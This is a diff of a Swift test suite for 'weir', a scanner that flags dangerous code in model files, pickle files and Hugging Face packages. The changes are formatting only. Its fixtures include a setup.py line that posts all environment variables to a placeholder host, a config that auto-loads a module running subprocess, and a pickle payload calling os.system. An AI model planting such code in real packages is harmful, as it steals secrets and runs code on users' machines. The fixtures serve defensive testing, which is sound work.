@@ -8,8 +8,10 @@ import WeirTestSupport
     private static let harmless = Data([0x80, 2, 0x7d, 0x2e])
 
     private static let package: [String: Data] = [
-        "pytorch_model.bin": payload, "config.json": Data(#"{"model_type":"bert","auto_map":{"AutoModel":"modeling_x.XModel"}}"#.utf8),
-        "modeling_x.py": Data("import subprocess\nsubprocess.run(['touch', '/tmp/x'])\nclass XModel: pass\n".utf8), "README.md": Data("# os.system".utf8),
+        "pytorch_model.bin": payload,
+        "config.json": Data(#"{"model_type":"bert","auto_map":{"AutoModel":"modeling_x.XModel"}}"#.utf8),
+        "modeling_x.py": Data("import subprocess\nsubprocess.run(['touch', '/tmp/x'])\nclass XModel: pass\n".utf8),
+        "README.md": Data("# os.system".utf8),
         "training_args.bin": harmless,
     ]
 
@@ -20,14 +22,19 @@ import WeirTestSupport
         try Self.harmless.write(to: folder.appending(path: "good.pkl"))
         try Data([0x80, 4, 0x8d]).write(to: folder.appending(path: "cut.pkl"))
         let evil = try await weir("scan", folder.path + "/evil.pkl")
-        #expect(evil.status == 1 && evil.output.contains("CRITICAL") && evil.output.contains("os.system(\"echo hi\")"), "\(evil.output)")
+        #expect(
+            evil.status == 1 && evil.output.contains("CRITICAL") && evil.output.contains("os.system(\"echo hi\")"),
+            "\(evil.output)")
         #expect(try await weir("scan", folder.path + "/good.pkl").status == 0)
         #expect(try await weir("scan", folder.path + "/cut.pkl").status == 2)
         #expect(try await weir("scan", folder.path + "/nowhere").status == 2)
         // What was found wins over what could not be read.
         #expect(try await weir("scan", folder.path).status == 1)
         #expect(try await weir("scan", folder.path + "/cut.pkl", folder.path + "/good.pkl").status == 2)
-        for wrong in [["scan"], ["scan", "x", "--max-depth", "-1"], ["scan", "x", "--fail-on", "bad"], ["scan", "x", "--max-bytes", "x"], ["scan", "x", "--max-time", "0"], ["scan", "x", "--json", "--format", "sarif"]] {
+        for wrong in [
+            ["scan"], ["scan", "x", "--max-depth", "-1"], ["scan", "x", "--fail-on", "bad"], ["scan", "x", "--max-bytes", "x"],
+            ["scan", "x", "--max-time", "0"], ["scan", "x", "--json", "--format", "sarif"],
+        ] {
             let result = try await runProgram(weir.program, wrong)
             #expect(result.status == 64, "\(wrong): \(result.status)")
         }
@@ -47,12 +54,22 @@ import WeirTestSupport
             #expect(Set(["path", "rule", "severity", "message", "evidence"]).isSubset(of: finding.keys))
             #expect(["critical", "high", "medium", "low", "info"].contains(finding["severity"] as? String))
         }
-        #expect(findings.contains { ($0["path"] as? String)?.hasSuffix("package/pytorch_model.bin") == true && $0["severity"] as? String == "critical" })
+        #expect(
+            findings.contains {
+                ($0["path"] as? String)?.hasSuffix("package/pytorch_model.bin") == true && $0["severity"] as? String == "critical"
+            })
         // The configuration makes the module run when the package is loaded.
-        #expect(findings.contains { ($0["path"] as? String)?.hasSuffix("modeling_x.py") == true && ["critical", "high"].contains($0["severity"] as? String) }, "\(findings)")
+        #expect(
+            findings.contains {
+                ($0["path"] as? String)?.hasSuffix("modeling_x.py") == true
+                    && ["critical", "high"].contains($0["severity"] as? String)
+            }, "\(findings)")
         #expect((json["errors"] as? [Any])?.isEmpty == true)
         let coverage = try #require(json["coverage"] as? [[String: Any]])
-        #expect(coverage.count == 5 && coverage.allSatisfy { ($0["parsed"] as? Int ?? 0) + ($0["skipped"] as? Int ?? 0) == $0["size"] as? Int }, "\(coverage)")
+        #expect(
+            coverage.count == 5
+                && coverage.allSatisfy { ($0["parsed"] as? Int ?? 0) + ($0["skipped"] as? Int ?? 0) == $0["size"] as? Int },
+            "\(coverage)")
     }
 
     @Test func theSARIFIsWhatCodeScanningTakes() async throws {
@@ -60,13 +77,23 @@ import WeirTestSupport
         let folder = weir.folder.url
         try Self.payload.write(to: folder.appending(path: "evil model.pkl"))
         try Data([0x80, 4, 0x8d]).write(to: folder.appending(path: "cut.pkl"))
-        try Data("import os, requests\nrequests.post('http://x.example.invalid', data=dict(os.environ))\n".utf8).write(to: folder.appending(path: "setup.py"))
+        try Data("import os, requests\nrequests.post('http://x.example.invalid', data=dict(os.environ))\n".utf8).write(
+            to: folder.appending(path: "setup.py"))
         let file = folder.appending(path: "out.sarif")
-        #expect(try await weir("scan", folder.path + "/evil model.pkl", folder.path + "/cut.pkl", folder.path + "/setup.py", "--sarif", file.path, "--quiet").status == 1)
+        #expect(
+            try await weir(
+                "scan", folder.path + "/evil model.pkl", folder.path + "/cut.pkl", folder.path + "/setup.py", "--sarif",
+                file.path, "--quiet"
+            ).status == 1)
         let schema = URL(filePath: #filePath).deletingLastPathComponent().appending(path: "Fixtures/sarif-2.1.0-used.schema.json")
         let python = try #require(TestPlaces.python, "make test sets it up")
         let check = try await runProgram(
-            python, ["-c", "import json,sys,jsonschema; jsonschema.Draft202012Validator(json.load(open(sys.argv[1]))).validate(json.load(open(sys.argv[2])))", schema.path, file.path])
+            python,
+            [
+                "-c",
+                "import json,sys,jsonschema; jsonschema.Draft202012Validator(json.load(open(sys.argv[1]))).validate(json.load(open(sys.argv[2])))",
+                schema.path, file.path,
+            ])
         #expect(check.status == 0, "\(check.errors)")
         let log = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: file)) as? [String: Any])
         let run = try #require((log["runs"] as? [[String: Any]])?.first)
@@ -83,7 +110,9 @@ import WeirTestSupport
         let hub = try MadeHub(["o/evil": Self.package, "o/good": ["model.bin": Self.harmless, "README.md": Data("# good".utf8)]])
         let pull = try await weir("pull", "hf", "--from", hub.server.address, "--snapshot", "files", "--scan", "--json")
         let scans = try #require(try pull.json()["scans"] as? [String: Any])
-        #expect(pull.status == 1 && scans["packages"] as? Int == 2 && scans["dangerous"] as? [String] == ["huggingface:o/evil"], "\(scans)")
+        #expect(
+            pull.status == 1 && scans["packages"] as? Int == 2 && scans["dangerous"] as? [String] == ["huggingface:o/evil"],
+            "\(scans)")
         let query = "SELECT package, path, rule, severity FROM findings WHERE severity IN ('critical', 'high') ORDER BY 1, 2, 3"
         let found = try await weir.sql(query)
         #expect(found.contains("huggingface:o/evil,pytorch_model.bin,pickle-dangerous-call,critical"), "\(found)")
@@ -117,7 +146,9 @@ import WeirTestSupport
         let json = try result.json()
         #expect(json["files"] as? Int == files.count && (json["errors"] as? [Any])?.isEmpty == true, "\(json["errors"] ?? "")")
         let findings = try #require(json["findings"] as? [[String: Any]])
-        #expect(findings.contains { ($0["rule"] as? String) == "pickle-dangerous-call" } && findings.contains { ($0["path"] as? String)?.hasSuffix("/modeling_x.py") == true })
+        #expect(
+            findings.contains { ($0["rule"] as? String) == "pickle-dangerous-call" }
+                && findings.contains { ($0["path"] as? String)?.hasSuffix("/modeling_x.py") == true })
         #expect(!FileManager.default.fileExists(atPath: weir.dataset))
         let missing = try await weir("scan", "hf:o/none", "--from", hub.server.address)
         #expect(missing.status == 2 && missing.errors.contains("error"))
